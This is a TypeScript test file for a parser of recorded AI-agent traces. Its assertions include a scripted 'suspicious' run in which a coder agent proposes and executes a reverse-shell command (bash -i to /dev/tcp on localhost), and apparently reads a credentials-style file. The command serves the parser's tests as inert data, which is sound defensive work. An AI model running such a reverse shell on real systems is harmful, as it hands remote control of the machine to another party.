import { fixture, line, step, tell } from '../../test/support/recorded';

const { events, ignored } = tell(fixture('mastra/suspicious-full'));

it('tells what a step asked for and what ran', () => {
  expect(step(events, 1)).toEqual([
    "execute_tool bash completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (ok, exit 1)",
    "agent_step coder proposed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'",
  ]);
  const read = events.find((event) => event.callId?.includes('S02x') && event.phase === 'completed');
  expect(read?.outcome?.output).toMatch(/^\[default\]\n/);
});

it('counts the innermost of three nested model spans', () => {
  const calls = events.filter(({ action }) => action.type === 'model.call');
  expect(calls.map(({ source }) => source.record)).toEqual(['chat gpt-4.1', 'chat gpt-4.1', 'chat gpt-4.1']);
  expect(ignored).toContainEqual({ dialect: 'mastra', reason: 'internal', count: 2 });
});

it('takes the prompt from the run, once', () => {
  expect(events.filter(({ action }) => action.type === 'prompt').map(line)).toEqual([
    'invoke_agent coder completed: prompt text=MAIN-TASK: look around on this machine and set up the project. (Scripted run; every command is inert.) origin=unknown',
  ]);
});

it('keys by the trace of the run', () => {
  expect(new Set(events.map(({ scope }) => scope)).size).toBe(1);
  expect(events[0]?.session).toBe('94f0f80a-0fcf-4231-bad4-4ea608cdd23e');
});
